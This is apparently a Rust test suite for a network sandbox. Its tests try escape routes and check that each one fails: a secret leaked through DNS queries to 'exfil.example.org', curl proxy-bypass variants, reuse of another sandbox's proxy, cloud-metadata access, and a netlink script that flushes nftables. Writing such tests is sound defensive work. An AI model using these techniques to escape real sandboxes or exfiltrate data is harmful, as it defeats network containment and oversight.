//! Ways out that are no TCP connection to a listed host.

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader};
use std::process::Stdio;

use super::clients::NO_PROXIES;
use super::probe::{
    Attempt, Must, PROBE, allowed, bare, fenced, filtered_places, furnish, outcomes, places,
    refused,
};
use super::world::{World, filtered_world, fresh_address, name_of, token, world};
use crate::harness::{Ran, binary, has};

const SERVERS: [&str; 2] = ["45.53.53.53", "2606:53::53"];
/// A, AAAA, NS, CNAME, NULL, MX, TXT, SRV, HTTPS, ANY.
const KINDS: [u16; 10] = [1, 28, 2, 5, 10, 15, 16, 33, 65, 255];

fn questions(name: &str, kinds: &[u16]) -> Vec<Attempt> {
    let mut all = Vec::new();
    for kind in kinds {
        for (way, server) in [("dns", SERVERS[0]), ("dns", SERVERS[1]), ("dnstcp", SERVERS[0])] {
            let attempt = Attempt::new(way, server, 53).set("name", name).set("type", *kind);
            all.push(attempt.proof("code="));
        }
    }
    all
}

#[test]
fn questions_carry_nothing_out() {
    let secret = "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA";
    let refused_names = || {
        let mut all = questions(&format!("{secret}.@W@.exfil.example.org"), &KINDS);
        all.extend((0..20).map(|n| {
            Attempt::new("lookup", &format!("{secret}{n}.@.exfil.example.org"), 80).proof("[")
        }));
        all
    };
    let allowed_names = || {
        let mut all = questions(&format!("{secret}.@W@.wild.example.com"), &[1, 28]);
        all.push(Attempt::new("lookup", &format!("{secret}.@.wild.example.com"), 80).proof("["));
        all
    };
    for (world, p) in places() {
        for o in bare(world, &p, [refused_names(), allowed_names()].concat()) {
            assert!(o.reached() && !world.asked(&o.attempt.word).is_empty(), "control: {o:#?}");
        }
        let Some(world) = filtered_world() else { continue };
        let flags = ["--allow-host", "*.wild.example.com"];
        let begin = std::time::Instant::now();
        let all = fenced(world, &p, &flags, [refused_names(), allowed_names()].concat());
        // Refused at once: nobody waits for a time-out.
        assert!(begin.elapsed().as_secs() < 15, "{:?}", begin.elapsed());
        let names = refused_names().len();
        for o in &all {
            let asked = world.asked(&o.attempt.word);
            assert!(asked.is_empty(), "a question went out: {asked:#?} {o:#?}");
        }
        for o in &all[..names] {
            let said_no = o.got.contains("code=3 answers=0")
                || o.got.contains("code=5 answers=0")
                || o.error.contains("gaierror");
            assert!(said_no, "refused names are refused at once: {o:#?}");
        }
        for o in &all[names..] {
            let answered = o.got.contains("code=0 answers=1") || o.got.starts_with("['");
            assert!(answered, "allowed names have an address: {o:#?}");
        }
        // Other kinds of an allowed name: none, and no question either.
        for o in fenced(world, &p, &flags, questions("@W@.wild.example.com", &[16, 15, 65, 33])) {
            assert!(o.got.contains("code=0 answers=0"), "{o:#?}");
            assert_eq!(world.asked(&o.attempt.word), Vec::<String>::new(), "{o:#?}");
        }
        // A connection asks for its own name, a few times at most.
        let name = format!("{}.wild.example.com", token());
        let one = fenced(world, &p, &flags, vec![Attempt::new("direct", &name, 80)]);
        assert!(one[0].reached(), "{one:#?}");
        assert!((1..=4).contains(&world.asked(&name).len()), "{:#?}", world.asked(&name));
    }
}

/// Who may connect to any name below a host can tell its owner something with each. That is counted,
/// limited, and said.
#[test]
fn labels_of_an_allowed_wildcard_are_limited() {
    const NAMES: usize = 260;
    let attempts = |word: &str| -> Vec<Attempt> {
        let filler = "a".repeat(60);
        let name = |n: usize| format!("x{n}.{filler}.{filler}.{filler}.{word}.wild.example.com");
        (0..NAMES).map(|n| Attempt::new("connect", &name(n), 80)).collect()
    };
    let told = |world: &World, word: &str| {
        let names = world.log(word).into_iter().filter(|e| e["event"] == "dns");
        names.map(|e| e["name"].to_string()).collect::<BTreeSet<_>>().len()
    };
    for (world, p) in places() {
        let word = token();
        bare(world, &p, attempts(&word));
        assert_eq!(told(world, &word), NAMES, "the control tells all");
        let Some(world) = filtered_world() else { continue };
        let (word, log) = (token(), p.outside().join("log"));
        let flags = ["--allow-host", "*.wild.example.com", "--log", log.to_str().unwrap()];
        let all = fenced(world, &p, &flags, attempts(&word));
        let told = told(world, &word);
        assert!((1..NAMES * 9 / 10).contains(&told), "{told} of {NAMES} names went out");
        // A few are everyday life.
        assert!(all.iter().filter(|o| o.reached()).count() > 50, "{all:#?}");
        let log = std::fs::read_to_string(&log).unwrap();
        assert!(log.contains("\"reason\":\"limit\""), "{log}");
    }
}

#[test]
fn datagrams_and_pings_stay_inside() {
    let outcomes = refused(&["--allow-host", "45.0.0.0/8"], Must::Vanish, || {
        let mut all = Vec::new();
        for host in ["45.10.0.1", "45.66.6.6", "good.example.com"] {
            for port in [7, 123, 443] {
                all.push(Attempt::new("udp", host, port));
                all.push(Attempt::new("udp", host, port).set("connected", false));
            }
        }
        for host in ["45.66.6.6", "45.10.0.1", "2606:66::6"] {
            all.push(Attempt::new("ping", host, 0));
            let raw = Attempt::new("rawping", host, 0);
            all.push(raw.no_control());
        }
        // A question is none when it is not DNS: the server inside answers it or nobody does.
        all.push(Attempt::new("udp", "45.66.6.6", 53).no_control());
        all
    });
    for o in &outcomes {
        // QUIC falls back to TCP at once when it is refused, after seconds when it is not answered.
        let connected = o.attempt.value()["way"] == "udp"
            && o.attempt.value().get("connected").is_none()
            && o.attempt.value()["port"] != 53;
        assert!(!connected || !o.error.contains("imeout"), "should be refused at once: {o:#?}");
    }
}

#[test]
fn abstract_sockets_of_the_host_are_elsewhere() {
    for (world, p) in places() {
        let attempt = || vec![Attempt::new("abstract", &world.abstract_socket(), 0)];
        let control = bare(world, &p, attempt());
        assert!(control[0].reached(), "{control:#?}");
        let inside = match filtered_world() {
            Some(_) => fenced(world, &p, &["--allow-host", "*"], attempt()),
            None => fenced(world, &p, &[], attempt()),
        };
        assert!(!inside[0].reached(), "{inside:#?}");
        assert_eq!(world.reached(&inside[0].attempt.word), Vec::<String>::new());
    }
}

#[test]
fn nothing_is_reached_without_a_rule() {
    for (world, p) in places() {
        let attempts = || {
            let mut all = Attempt::each_way("@.example.org", 80);
            all.extend(
                [
                    ("direct", "45.66.6.6"),
                    ("socksip", "45.66.6.6"),
                    ("udp", "45.66.6.6"),
                    ("ping", "45.66.6.6"),
                ]
                .map(|(way, host)| Attempt::new(way, host, if way == "udp" { 443 } else { 80 })),
            );
            all
        };
        for o in bare(world, &p, attempts()) {
            assert!(o.reached(), "the control must arrive: {o:#?}");
        }
        for o in fenced(world, &p, &[], attempts()) {
            assert!(!o.reached(), "{o:#?}");
            let (reached, asked) = (world.reached(&o.attempt.word), world.asked(&o.attempt.word));
            assert!(reached.is_empty() && asked.is_empty(), "{reached:#?} {asked:#?} {o:#?}");
            // And there is no proxy to ask.
            assert!(
                o.error.contains("refused")
                    || o.error.contains("nreachable")
                    || o.error.contains("gaierror")
                    || o.error.contains("Permission")
                    || o.error.contains("not permitted"),
                "{o:#?}"
            );
        }
    }
}

#[test]
fn one_port_of_the_hosts_loopback() {
    let flags = ["--allow-host", "localhost:7001"];
    allowed(&flags, || {
        let mut all = vec![
            Attempt::new("direct", "127.0.0.1", 7001),
            Attempt::new("direct", "localhost", 7001),
        ];
        all.extend(["http", "connect", "socks"].map(|way| Attempt::new(way, "localhost", 7001)));
        all
    });
    refused(&flags, Must::NotArrive, || {
        let mut all = Attempt::each_way("localhost", 7002);
        for host in ["127.0.0.1", "::1", "0.0.0.0", "127.1", "@.loop.example.com"] {
            all.extend(Attempt::each_way(host, 7002));
        }
        // Another address of the host, and a name of somebody else's that leads to the loopback.
        all.push(Attempt::new("direct", super::world::HOST, 7003));
        all.extend(Attempt::each_way("@.loop.example.com", 7001));
        all
    });
}

#[test]
fn what_the_environment_says_opens_nothing() {
    if !has("curl") {
        return;
    }
    for (n, (world, p)) in places().into_iter().enumerate() {
        let games = |address: &str| -> Vec<String> {
            let name = name_of(address);
            vec![
                format!("NO_PROXY='*' no_proxy='*' curl -sS --max-time 8 http://{name}/"),
                format!(
                    "no_proxy=.example.com NO_PROXY={name} curl -sS --max-time 8 http://{name}/"
                ),
                format!("curl -sS --max-time 8 --noproxy '*' http://{name}/"),
                format!(
                    "curl -sS --max-time 8 --noproxy '*' --resolve {name}:80:{address} http://{name}/"
                ),
                format!(
                    "{NO_PROXIES} curl -sS --max-time 8 --connect-to {name}:80:{address}:80 http://{name}/"
                ),
                // The name of one, the address of the other.
                format!(
                    "{NO_PROXIES} curl -sS --max-time 8 --resolve good.example.com:80:{address} http://good.example.com/"
                ),
                format!(
                    "HOSTALIASES=$PWD/aliases curl -sS --max-time 8 --noproxy '*' http://x{n}/ || \
                    curl -sS --max-time 8 --noproxy '*' http://{name}/"
                ),
            ]
        };
        let failing = |script: &str| format!("({script}) | grep -q 'reached '");
        for script in games(&fresh_address()) {
            world.bare(&p, &failing(&script)).ok();
        }
        if filtered_world().is_none() {
            continue;
        }
        let address = fresh_address();
        let each: Vec<_> = games(&address).iter().map(|s| failing(s) + " && echo out").collect();
        let all = each.join("\n");
        let flags = ["--allow-host", "good.example.com"];
        let more = [&flags[..], &["-e", "NO_PROXY=*", "-e", "no_proxy=*"]].concat();
        for flags in [&flags[..], &more] {
            let ran = world.fenced(&p, flags, &(all.clone() + "\ntrue"));
            assert_eq!(ran.out, "", "{ran:#?}");
            world.nothing_of(&address, &ran);
            world.nothing_of(&name_of(&address), &ran);
        }
    }
}

#[test]
fn the_proxy_of_another_sandbox() {
    for (world, p) in filtered_places() {
        let mut first = world
            .command(&p, binary())
            .args(["run", "--allow-host", "good.example.com", "--", "/bin/sh", "-c"])
            .arg("echo $http_proxy; read _ || true")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut proxy = String::new();
        BufReader::new(first.stdout.as_mut().unwrap()).read_line(&mut proxy).unwrap();
        let proxy = proxy.trim();
        assert!(!proxy.is_empty());
        let attempts = || {
            ["http", "connect", "socks"]
                .map(|way| Attempt::new(way, "good.example.com", 80))
                .to_vec()
        };
        // The control: a proxy of the host is there for the host.
        for o in bare(world, &p, attempts()) {
            assert!(o.reached(), "{o:#?}");
        }
        let socks = format!("all_proxy={}", proxy.replace("http:", "socks5h:"));
        let http = format!("http_proxy={proxy}");
        for allowed in [&[][..], &["--allow-host", "api.good.example.com"]] {
            let flags = [allowed, &["-e", &http, "-e", &socks]].concat();
            for o in fenced(world, &p, &flags, attempts()) {
                assert!(!o.reached() && world.reached(&o.attempt.word).is_empty(), "{o:#?}");
            }
        }
        drop(first.stdin.take());
        assert!(first.wait().unwrap().success());
    }
}

/// A kernel without nftables: listed hosts on listed ports, nothing else, and never the host's network.
#[test]
fn without_nftables_nothing_more_is_reached() {
    for (world, p) in filtered_places() {
        let good = [
            Attempt::each_way("good.example.com", 80),
            vec![
                Attempt::new("direct", "good.example.com", 443).tls("good.example.com"),
                Attempt::new("direct", "45.30.1.2", 8080),
                Attempt::new("direct", "localhost", 7001),
            ],
        ]
        .concat();
        let bad = [
            Attempt::each_way("@.example.org", 80),
            Attempt::each_way("45.66.6.6", 80),
            Attempt::each_way("2606:66::6", 80),
            Attempt::each_way("127.0.0.1", 7002),
            Attempt::each_way("169.254.169.254", 80),
            Attempt::each_way("good.example.com", 8080),
            vec![
                Attempt::new("mapped", "45.66.6.6", 80),
                Attempt::new("mapped", "45.30.1.2", 5432),
                Attempt::new("direct", "45.30.1.2", 5432),
                Attempt::new("udp", "45.66.6.6", 443),
                Attempt::new("udp", "45.10.0.1", 7),
                Attempt::new("ping", "45.66.6.6", 0),
            ],
            questions("@W@.exfil.example.org", &[1, 16]),
        ]
        .concat();
        let (goods, list) = (good.len(), [good, bad].concat());
        furnish(&p, &list);
        let mut command = world.command(&p, "timeout");
        command.args(["-k1", "90"]).arg(binary()).args(["__attack", "under", "nftables"]);
        command.arg(binary()).args(["run", "-m"]);
        for host in ["good.example.com:80", "good.example.com:443", "45.30.0.0/16:8080"] {
            command.args(["--allow-host", host]);
        }
        command.args(["--allow-host", "localhost:7001", "--", "/bin/sh", "-c", PROBE]);
        let ran = Ran::of(&mut command).ok().says("no nftables");
        let all = outcomes(&ran, list);
        for o in &all[..goods] {
            assert!(o.reached(), "{o:#?}\n{}", ran.err);
        }
        for o in &all[goods..] {
            let arrived = [world.reached(&o.attempt.word), world.asked(&o.attempt.word)].concat();
            assert!(arrived.is_empty(), "{arrived:#?} {o:#?}\n{}", ran.err);
            let answered = o.attempt.value()["way"].as_str().unwrap().starts_with("dns");
            assert!(answered || !o.reached(), "{o:#?}");
        }
    }
}

/// What would change where packets go: `nft flush ruleset` as a netlink message, and iproute2.
const CHANGES: &str = r#"
cat >flush.py <<'END'
import os, socket, struct, sys
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
message = lambda kind, flags, family, res: struct.pack("=IHHII", 20, kind, flags, 1, 0) + struct.pack("!BBH", family, 0, res)
s.send(message(16, 1, 0, 10) + message(10 << 8 | 2, 5, 0, 0) + message(17, 1, 0, 10))
s.settimeout(3)
code = struct.unpack("=i", s.recv(8192)[16:20])[0]
if code: sys.exit(os.strerror(-code))
END
n=0
for change in 'python3 -I flush.py' 'ip link add d0 type dummy' 'ip link set lo mtu 1400' \
    'ip addr add 45.66.6.6/32 dev lo' 'ip route add 45.66.0.0/16 dev lo' 'ip rule add pref 5 lookup 77'
do
    if $change; then n=$((n + 1)); fi
done
echo changes=$n
"#;

#[test]
fn routes_and_rules_cannot_be_changed_inside() {
    for (world, p) in places() {
        p.write("changes.sh", CHANGES);
        let control = world.bare(&p, "unshare -rn sh -c 'ip link set lo up; . ./changes.sh'").ok();
        // A dummy device or nftables may be missing from the kernel.
        let changed: u32 = control.out.trim().strip_prefix("changes=").unwrap().parse().unwrap();
        assert!(changed >= 4, "{control:#?}");
        let Some(world) = filtered_world() else { continue };
        let (good, bad) = (token(), fresh_address());
        let script = format!(
            ". ./changes.sh
            python3 -c 'import socket; s = socket.socket(); s.setsockopt(1, 2, 1); s.bind((\"127.0.0.1\", 808))' && echo bound
            curl -sS --max-time 10 http://good.example.com/{good}
            {NO_PROXIES}
            curl -sS --max-time 10 http://good.example.com/{good}
            curl -sS --max-time 5 http://{bad}/
            # A namespace of its own may have other rules, and leads nowhere.
            unshare -rn sh -c 'ip link set lo up; . ./changes.sh >/dev/null; curl -sS --max-time 3 http://{bad}/'
            true"
        );
        let ran = world.fenced(&p, &["--allow-host", "good.example.com"], &script).ok();
        assert!(ran.out.starts_with("changes=0\n") && !ran.out.contains("bound"), "{ran:#?}");
        assert_eq!(world.reached(&good).len(), 2, "{ran:#?}");
        world.nothing_of(&bad, &ran);
    }
}

#[test]
fn many_at_once() {
    // Each gets its own answer: no connection is taken for another.
    const MANY: &str = "
import concurrent.futures, socket, sys
def one(n):
    s = socket.create_connection(('good.example.com', 80), 20)
    s.sendall(f'GET /{sys.argv[1]}-{n}- HTTP/1.1\\r\\nHost: good.example.com\\r\\nConnection: close\\r\\n\\r\\n'.encode())
    data = b''
    while more := s.recv(65536): data += more
    return f'/{sys.argv[1]}-{n}- at'.encode() in data
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    print(sum(pool.map(one, range(300))))
";
    for (world, p) in places() {
        p.write("many.py", MANY);
        world.bare(&p, &format!("python3 many.py {}", token())).ok().says("300\n");
        let Some(world) = filtered_world() else { continue };
        let flags = ["--allow-host", "good.example.com"];
        world.fenced(&p, &flags, &format!("python3 many.py {}", token())).ok().says("300\n");
    }
}

#[test]
fn the_probe_itself_runs_inside() {
    // What fails inside fails because of the network.
    let (Some(world), Some((_, p))) = (world(), places().pop()) else { return };
    p.write("probe.py", include_str!("probe.py"));
    p.write("attempts.json", "[]");
    let ran: Ran = world.fenced::<&str>(&p, &[], PROBE).ok();
    assert_eq!(ran.out, "[]\n");
}
